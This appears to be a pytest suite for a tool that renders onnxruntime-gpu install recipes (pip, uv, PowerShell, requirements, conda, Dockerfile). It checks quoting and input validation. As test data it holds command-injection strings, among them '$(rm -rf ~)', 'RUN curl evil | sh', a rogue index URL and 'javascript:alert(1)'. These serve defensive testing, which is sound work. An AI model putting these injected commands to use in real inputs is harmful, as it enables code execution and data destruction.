"""Recipes rendered from hand-made plans: exact commands, quoting, requirements, conda, Dockerfile."""

from __future__ import annotations

import json
import os
import re
import shlex
import stat
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
import yaml

from provisioner import standalone
from provisioner.errors import BadInput, DataError, NoCompatiblePlan
from provisioner.plan import Step, step_argv
from provisioner.render.recipes import (
    CHECK_SCRIPT_PATH,
    VENV_PYTHON,
    PinnedRequirement,
    command_line,
    one_line,
    powershell_quote,
    render,
)
from tests.support.recipe_plans import cuda11_plan, cuda12_plan, host, matrix

HOSTILE = [
    "a b",
    "it's",
    'say "hi"',
    "$(touch pwned)",
    "`touch pwned`",
    "x; touch pwned",
    "line1\nline2",
    "tab\there",
    "back\\slash",
    "${HOME}",
    "‘curly’",
    "\u2028sep",
    "& calc.exe",
    "plain\n",  # a trailing newline: a regex anchored with "$" would let it through
]


def command_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line and not line.startswith("#")]


# -- pip / uv -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("tool", ["pip", "uv"])
def test_commands_are_exactly_step_argv(tool: str) -> None:
    plan = cuda12_plan()
    text = render(plan, tool, python="/opt/env/bin/python")
    assert [shlex.split(line) for line in command_lines(text)] == [
        step_argv(step, tool, "/opt/env/bin/python") for step in plan.steps
    ]
    assert "# ortprov plan: onnxruntime-gpu 1.23.2 for CUDA 12.8, cuDNN 9" in text
    assert "#   - newest release whose CUDA 12 build runs on driver 580" in text
    assert "#   - nvidia-cudnn-cu12==9.10.2.21: cuDNN 9 build for CUDA 12" in text


def test_index_options_reach_the_commands() -> None:
    step = Step(
        "install",
        ("onnxruntime-gpu==1.16.3",),
        index_url="https://example.org/simple/",
        extra_index_urls=("https://mirror.example/simple",),
        find_links=("/srv/wheels",),
    )
    plan = cuda12_plan(steps=(step,))
    (line,) = command_lines(render(plan, "pip"))
    assert shlex.split(line) == step_argv(step, "pip")
    assert "--index-url https://example.org/simple/" in line


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_free_text_stays_inside_one_comment_line(hostile: str) -> None:
    plan = cuda12_plan(
        reasons=(hostile,),
        notes=(hostile,),
        steps=tuple(replace(s, description=hostile) for s in cuda12_plan().steps),
        hosts=(replace(host(), label=hostile),),
    )
    for tool in ("pip", "uv"):
        text = render(plan, tool)
        assert [shlex.split(line) for line in command_lines(text)] == [step_argv(s, tool) for s in plan.steps]
    requirements = render(plan, "requirements")
    assert command_lines(requirements) == list(plan.install)
    dockerfile = render(plan, "dockerfile", matrix=matrix())
    assert all(line.startswith("#") for line in dockerfile.splitlines() if "pwned" in line or "calc" in line)
    conda = yaml.safe_load(render(plan, "conda", matrix=matrix()))
    assert set(conda) == {"name", "channels", "dependencies"}


def test_one_line_escapes_every_line_break() -> None:
    assert one_line("a\nb\rc\u2028d\x85e") == "a\\nb\\rc\\u2028d\\x85e"
    assert "\n" not in one_line("\n".join(HOSTILE))


def test_hostile_python_path_runs_as_one_word_in_a_real_shell(tmp_path: Path) -> None:
    """The rendered commands, run by /bin/sh, call the interpreter at a path full of shell syntax."""
    folder = tmp_path / "we $(touch pwned) `touch pwned2`; 'quoted' \"dq\""
    folder.mkdir()
    fake_python = folder / "python"
    record = tmp_path / "argv.jsonl"
    fake_python.write_text(
        f"#!{sys.executable}\nimport json, sys\nopen({str(record)!r}, 'a').write(json.dumps(sys.argv[1:]) + '\\n')\n"
    )
    fake_python.chmod(fake_python.stat().st_mode | stat.S_IEXEC)
    plan = cuda12_plan()
    script = render(plan, "pip", python=str(fake_python))
    subprocess.run(["/bin/sh", "-c", script], cwd=tmp_path, check=True, timeout=60)
    calls = [json.loads(line) for line in record.read_text().splitlines()]
    assert calls == [step_argv(s, "pip", str(fake_python))[1:] for s in plan.steps]
    assert not list(tmp_path.glob("pwned*"))


# -- PowerShell ---------------------------------------------------------------------------------------------


def parse_powershell_words(line: str) -> list[str]:
    """A minimal reader of PowerShell single-quoted strings and bare words (what powershell_quote writes)."""
    quotes = "'\u2018\u2019\u201a\u201b"
    words, i = [], 0
    while i < len(line):
        if line[i] == " ":
            i += 1
            continue
        if line[i] in quotes:
            i += 1
            word = ""
            while True:
                if line[i] in quotes:
                    if i + 1 < len(line) and line[i + 1] in quotes:
                        word += line[i]
                        i += 2
                        continue
                    i += 1
                    break
                word += line[i]
                i += 1
            words.append(word)
        else:
            end = line.find(" ", i)
            end = len(line) if end < 0 else end
            words.append(line[i:end])
            i = end
    return words


def test_windows_plans_render_powershell() -> None:
    plan = cuda12_plan(platform="windows-amd64")
    python = r"C:\Program Files\Python 3.12\python.exe"
    text = render(plan, "pip", python=python)
    lines = command_lines(text)
    assert all(line.startswith("& ") for line in lines)
    assert [parse_powershell_words(line[2:]) for line in lines] == [step_argv(s, "pip", python) for s in plan.steps]
    assert "'onnxruntime-gpu[cuda,cudnn]==1.23.2'" in text  # a bare comma would make an array
    assert "PowerShell" in text


@pytest.mark.parametrize("hostile", HOSTILE)
def test_powershell_quote_round_trips(hostile: str) -> None:
    quoted = powershell_quote(hostile)
    assert parse_powershell_words(quoted) == [hostile]
    assert quoted.startswith("'") or hostile == "back\\slash"  # a backslash is no escape in PowerShell
    assert "\n" not in quoted or quoted.startswith("'")


def test_plain_words_stay_bare_in_powershell() -> None:
    assert command_line(["python", "-m", "pip", "--index-url", "https://x.org/simple/"], windows=True) == (
        "& python -m pip --index-url https://x.org/simple/"
    )


# -- validation ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "step",
    [
        Step("install", ("onnxruntime-gpu==1.23.2\n--index-url http://evil/",)),
        Step("install", ("--index-url=http://evil/",)),
        Step("install", ("onnxruntime-gpu==1.23.2; $(rm -rf ~)",)),
        Step("install", ("onnxruntime-gpu ==1.23.2 ",)),
        Step("uninstall", ("onnxruntime; touch pwned",)),
        Step("install", ("onnxruntime-gpu",), index_url="https://x.org/simple\n--trusted-host evil"),
        Step("install", ("onnxruntime-gpu",), index_url="javascript:alert(1)"),
        Step("install", ("onnxruntime-gpu",), extra_index_urls=("https://x.org/ $(id)",)),
        Step("remove", ("onnxruntime",)),
        Step("uninstall", ("onnxruntime\n",)),
        Step("install", ("onnxruntime-gpu",), index_url="https://x.org/simple/\n"),
    ],
)
@pytest.mark.parametrize("fmt", ["pip", "uv", "requirements", "conda", "dockerfile"])
def test_hostile_plan_fields_are_rejected(step: Step, fmt: str) -> None:
    with pytest.raises(BadInput):
        render(cuda12_plan(steps=(step,)), fmt, matrix=matrix())


@pytest.mark.parametrize("field", ["ort_version", "cuda_version", "cudnn_version", "package"])
@pytest.mark.parametrize("value", ["1.0\nRUN curl evil | sh", "12\n"])
def test_hostile_versions_are_rejected(field: str, value: str) -> None:
    with pytest.raises(BadInput):
        render(cuda12_plan(**{field: value}), "dockerfile", matrix=matrix())


def test_unknown_format_is_bad_input() -> None:
    with pytest.raises(BadInput, match="unknown recipe format"):
        render(cuda12_plan(), "makefile")


def test_markers_with_quotes_are_valid_requirements() -> None:
    step = Step("install", ('onnxruntime-gpu==1.23.2; python_version >= "3.10"',))
    (line,) = command_lines(render(cuda12_plan(steps=(step,)), "pip"))
    assert shlex.split(line)[-1] == 'onnxruntime-gpu==1.23.2; python_version >= "3.10"'


# -- requirements -------------------------------------------------------------------------------------------


def test_requirements_file_lists_requirements_and_comments_the_uninstall() -> None:
    text = render(cuda12_plan(), "requirements")
    assert command_lines(text) == [
        "onnxruntime-gpu[cuda,cudnn]==1.23.2",
        "nvidia-cudnn-cu12==9.10.2.21",
        "nvidia-cuda-runtime-cu12==12.8.90",
    ]
    assert "#   python -m pip uninstall -y onnxruntime" in text.splitlines()


def test_requirements_carry_the_index_options() -> None:
    steps = (
        Step(
            "install",
            ("onnxruntime-gpu==1.16.3",),
            index_url="https://feed.example/simple/",
            extra_index_urls=("https://pypi.org/simple",),
        ),
    )
    assert command_lines(render(cuda12_plan(steps=steps), "requirements")) == [
        "--index-url https://feed.example/simple/",
        "--extra-index-url https://pypi.org/simple",
        "onnxruntime-gpu==1.16.3",
    ]


def test_hashed_requirements_pin_every_resolved_distribution() -> None:
    pinned = [
        PinnedRequirement("onnxruntime-gpu", "1.23.2", ("a" * 64, "b" * 64)),
        PinnedRequirement("nvidia-cudnn-cu12", "9.10.2.21", ("c" * 64,)),
        PinnedRequirement("nvidia-cuda-runtime-cu12", "12.8.90", ("d" * 64,)),
        PinnedRequirement("numpy", "2.3.5", ("e" * 64,)),
    ]
    text = render(cuda12_plan(), "requirements", index_digests=pinned)
    body = [line for line in text.splitlines() if not line.startswith("#")]
    assert body[:3] == [
        "numpy==2.3.5 \\",
        f"    --hash=sha256:{'e' * 64}",
        "nvidia-cuda-runtime-cu12==12.8.90 \\",
    ]
    assert f"    --hash=sha256:{'a' * 64} \\" in body and f"    --hash=sha256:{'b' * 64}" in body
    assert not any("[cuda" in line for line in body)


def test_hashed_requirements_refuse_an_incomplete_resolution() -> None:
    pinned = [PinnedRequirement("onnxruntime-gpu", "1.23.2", ("a" * 64,))]
    with pytest.raises(DataError, match="nvidia-cudnn-cu12"):
        render(cuda12_plan(), "requirements", index_digests=pinned)
    with pytest.raises(DataError, match="no sha256"):
        render(
            cuda11_plan(),
            "requirements",
            index_digests=[PinnedRequirement("onnxruntime-gpu", "1.16.3", ("not-hex",))],
        )


# -- conda --------------------------------------------------------------------------------------------------


def test_conda_cuda12_uses_split_packages_and_pip_without_nvidia_wheels() -> None:
    env = yaml.safe_load(render(cuda12_plan(), "conda", matrix=matrix()))
    assert env["channels"] == ["conda-forge", "nodefaults"]
    deps = env["dependencies"]
    assert deps[:-2] == [
        "python=3.12",
        "cuda-version=12.8",
        "cuda-cudart",
        "libcublas",
        "libcufft",
        "libcurand",
        "cudnn=9",
    ]
    assert deps[-2] == "pip"
    assert deps[-1] == {"pip": ["onnxruntime-gpu==1.23.2"]}


def test_conda_cuda11_uses_cudatoolkit() -> None:
    env = yaml.safe_load(render(cuda11_plan(), "conda", matrix=matrix()))
    assert env["dependencies"][:3] == ["python=3.10", "cudatoolkit=11.8", "cudnn=8"]


def test_conda_keeps_the_index_for_pip() -> None:
    step = Step("install", ("onnxruntime-gpu==1.16.3",), index_url="https://feed.example/simple/")
    env = yaml.safe_load(render(replace(cuda11_plan(), steps=(step,)), "conda", matrix=matrix()))
    assert env["dependencies"][-1] == {"pip": ["--index-url https://feed.example/simple/", "onnxruntime-gpu==1.16.3"]}


def test_conda_needs_the_matrix() -> None:
    with pytest.raises(DataError, match="matrix"):
        render(cuda12_plan(), "conda")
    with pytest.raises(DataError, match="CUDA 13"):
        render(cuda12_plan(cuda_version="13.0"), "conda", matrix=matrix())


# -- Dockerfile ---------------------------------------------------------------------------------------------


def parse_dockerfile(text: str) -> list[dict]:
    from dockerfile_parse import DockerfileParser

    parser = DockerfileParser(fileobj=__import__("io").BytesIO(text.encode()))
    return [item for item in parser.structure if item["instruction"] != "COMMENT"]


def runs(structure: list[dict]) -> list[str]:
    return [item["value"] for item in structure if item["instruction"] == "RUN"]


def test_dockerfile_slim_structure() -> None:
    plan = cuda12_plan()
    text = render(plan, "dockerfile", matrix=matrix())
    structure = parse_dockerfile(text)
    instructions = [item["instruction"] for item in structure]
    assert instructions[:2] == ["ARG", "FROM"]
    assert structure[0]["value"] == "BASE_IMAGE=python:3.12-slim-bookworm"
    assert structure[1]["value"] == "${BASE_IMAGE}"
    users = [item["value"] for item in structure if item["instruction"] == "USER"]
    assert users == ["10001:10001"]
    assert instructions.index("USER") > max(i for i, name in enumerate(instructions) if name == "RUN")
    install = [json.loads(value) for value in runs(structure) if value.startswith("[") and "pip" in value]
    assert install == [step_argv(plan.steps[1], "pip", VENV_PYTHON)]
    assert "size" in text.lower() or "GB" in text


def test_dockerfile_copies_the_shipped_check_script_verbatim() -> None:
    """The check program and the siblings it imports, each the very file ortprov runs (one ELF reader), COPYed
    from the build context (`dockerfile --context DIR` writes them): not pasted into the Dockerfile (issue 37)."""
    from provisioner.render.dockerfile import CONTEXT_DIR, context_files

    text = render(cuda12_plan(), "dockerfile", matrix=matrix())
    structure = parse_dockerfile(text)
    copies = [json.loads(item["value"]) for item in structure if item["instruction"] == "COPY"]
    assert copies == [[f"{CONTEXT_DIR}/", "/opt/ortprov/"]]
    files = context_files()
    assert set(files) == {f"{CONTEXT_DIR}/{name}" for name in ("check_cuda_libs.py", "elf.py", "libnames.py")}
    for name, content in files.items():
        assert content == standalone.path(name.rsplit("/", 1)[1]).read_bytes()
    (check,) = [value for value in runs(structure) if CHECK_SCRIPT_PATH in value]
    words = shlex.split(check)
    assert "--write-ld-conf" in words and "ldconfig" in words
    assert words[-8:] == [
        CHECK_SCRIPT_PATH,
        "libcublasLt.so.12",
        "libcublas.so.12",
        "libcurand.so.10",
        "libcudart.so.12",
        "libcuda.so.1",
        "libcudnn.so.9",
        "libcufft.so.11",
    ]
    assert len(text.splitlines()) < 100  # short enough to read (it was 637 lines with the helpers pasted in)


def test_dockerfile_says_each_thing_once() -> None:
    """No sentence of the header or the comments is repeated (a pin reason was said once per pin)."""
    text = render(cuda12_plan(), "dockerfile", matrix=matrix())
    comments = " ".join(line.lstrip("# ").strip() for line in text.splitlines() if line.startswith("#"))
    sentences = [s.strip() for s in re.split(r"[.;:]\s", comments) if len(s.strip()) > 30]
    repeated = {s for s in sentences if sentences.count(s) > 1}
    assert not repeated, repeated


def test_dockerfile_cuda_base_picks_the_matching_image_and_drops_nvidia_wheels() -> None:
    text = render(cuda12_plan(), "dockerfile", matrix=matrix(), base="cuda")
    structure = parse_dockerfile(text)
    assert structure[0]["value"] == "BASE_IMAGE=nvidia/cuda:12.8.1-cudnn-runtime-ubuntu24.04"
    install = [json.loads(v) for v in runs(structure) if v.startswith("[") and "pip" in v]
    assert install == [[VENV_PYTHON, "-m", "pip", "install", "onnxruntime-gpu==1.23.2"]]
    assert "ldconfig" not in text
    assert "apt-get install" in text


def test_dockerfile_cuda_base_respects_the_driver() -> None:
    newer = cuda12_plan(hosts=(host(driver="575.51.03", driver_cuda="12.9"),))
    assert "BASE_IMAGE=nvidia/cuda:12.8.1-cudnn" in render(newer, "dockerfile", matrix=matrix(), base="cuda")
    plan_126 = cuda12_plan(cuda_version="12.6", hosts=(host(driver="565.57.01", driver_cuda="12.7"),))
    built = replace(matrix().builds[0], cuda_version="12.6")
    the_matrix = replace(matrix(), builds=(built,))
    text = render(plan_126, "dockerfile", matrix=the_matrix, base="cuda")
    assert "BASE_IMAGE=nvidia/cuda:12.6.3-cudnn" in text and "minor-version" not in text
    compat = cuda12_plan(hosts=(host(driver="565.57.01", driver_cuda="12.7"),))
    text = render(compat, "dockerfile", matrix=matrix(), base="cuda")
    assert "BASE_IMAGE=nvidia/cuda:12.8.1-cudnn" in text
    assert "minor-version compatibility (driver >= 525.60.13)" in " ".join(
        line.lstrip("# ") for line in text.splitlines()
    )
    too_old = cuda12_plan(hosts=(host(driver="520.61.05", driver_cuda="11.8"),))
    with pytest.raises(NoCompatiblePlan, match="driver can run") as caught:
        render(too_old, "dockerfile", matrix=matrix(), base="cuda")
    assert caught.value.hint == "use --base slim"


def test_dockerfile_refuses_what_it_cannot_build_safely() -> None:
    with pytest.raises(BadInput, match="Linux"):
        render(cuda12_plan(platform="windows-amd64"), "dockerfile", matrix=matrix())
    with pytest.raises(BadInput, match="credentials"):
        step = Step("install", ("onnxruntime-gpu==1.23.2",), index_url="https://user:s3cret@feed.example/simple/")
        render(cuda12_plan(steps=(step,)), "dockerfile", matrix=matrix())
    with pytest.raises(BadInput, match="image reference"):
        render(cuda12_plan(), "dockerfile", matrix=matrix(), base_image="python:3.12 AS x\nRUN evil")
    with pytest.raises(BadInput, match="image reference"):
        render(cuda12_plan(), "dockerfile", matrix=matrix(), base_image="python:3.12\n")
    with pytest.raises(BadInput, match="Python"):
        render(cuda12_plan(hosts=()), "dockerfile", matrix=matrix())
    with pytest.raises(DataError, match="no record"):
        render(cuda12_plan(ort_version="1.99.0"), "dockerfile", matrix=matrix())
    with pytest.raises(BadInput, match="base"):
        render(cuda12_plan(), "dockerfile", matrix=matrix(), base="alpine")


def test_dockerfile_has_no_secrets_or_shell_from_plan_strings() -> None:
    text = render(cuda12_plan(), "dockerfile", matrix=matrix(), base_image="localhost/base:1")
    structure = parse_dockerfile(text)
    assert structure[0]["value"] == "BASE_IMAGE=localhost/base:1"
    for item in structure:
        assert not any(word in item["value"].upper() for word in ("TOKEN", "PASSWORD", "SECRET"))
    shell_runs = [v for v in runs(structure) if not v.startswith("[")]
    assert all("onnxruntime-gpu==" not in v for v in shell_runs)  # plan strings only travel in exec form


# -- the in-image check script, run for real ----------------------------------------------------------------


def test_elf_reader_matches_the_real_onnxruntime_library() -> None:
    import onnxruntime

    from provisioner.standalone import check_cuda_libs

    capi = Path(onnxruntime.__file__).parent / "capi"
    (pybind,) = capi.glob("onnxruntime_pybind11_state*.so")
    needed, runpath = check_cuda_libs.elf_dynamic(str(pybind))
    assert "libc.so.6" in needed and "libstdc++.so.6" in needed
    assert runpath == [str(capi)]  # $ORIGIN expanded


def test_check_script_fails_in_an_environment_with_the_cpu_package() -> None:
    """The dev environment has the CPU onnxruntime: the check must fail and say the CUDA provider is missing."""
    done = subprocess.run(
        [
            sys.executable,
            str(standalone.path("check_cuda_libs.py")),
            "libcuda.so.1",
            "libdoesnotexist.so.1",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "LD_LIBRARY_PATH": ""},
    )
    assert done.returncode == 1
    assert "skip     libcuda.so.1" in done.stdout
    assert "MISSING  libdoesnotexist.so.1" in done.stdout
    assert "libonnxruntime_providers_cuda.so is missing" in done.stderr


FEED_STEPS = (
    Step(
        "install",
        ("onnxruntime-gpu==1.19.2",),
        "from its own package index only",
        index_url="https://feed.example/simple/",
        no_deps=True,
    ),
    Step("install", ("onnxruntime-gpu==1.19.2", "nvidia-cudnn-cu11==8.9.6.50"), "its dependencies, from PyPI"),
)


@pytest.mark.parametrize("fmt", ["requirements", "conda"])
def test_one_file_cannot_hold_a_feed_build_and_its_pypi_dependencies(fmt: str) -> None:
    """pip steps run in order; one requirements file is one pip run: it would search the feed for every
    requirement (or PyPI for onnxruntime-gpu), so it is refused, naming the formats that work."""
    with pytest.raises(BadInput) as refused:
        # requirements: pinned with digests (an empty resolution) or not, the refusal comes first
        render(cuda11_plan_with(FEED_STEPS), fmt, matrix=matrix(), index_digests=() if fmt == "requirements" else None)
    assert "onnxruntime-gpu==1.19.2 from https://feed.example/simple/ with --no-deps" in refused.value.message
    assert "--format pip, uv or dockerfile" in str(refused.value.hint)
    steps = (Step("install", ("nvidia-cudnn-cu11==8.9.6.50",)), replace(FEED_STEPS[0], no_deps=False))
    with pytest.raises(BadInput, match="from https://feed.example/simple/, then the rest"):
        render(cuda11_plan_with(steps), fmt, matrix=matrix())
    assert render(cuda11_plan_with(FEED_STEPS[1:]), fmt, matrix=matrix())
    for tool in ("pip", "uv"):
        assert "--no-deps" in render(cuda11_plan_with(FEED_STEPS), tool)


def cuda11_plan_with(steps: tuple[Step, ...]):  # noqa: ANN201 - a Plan
    return replace(cuda11_plan(), steps=steps)
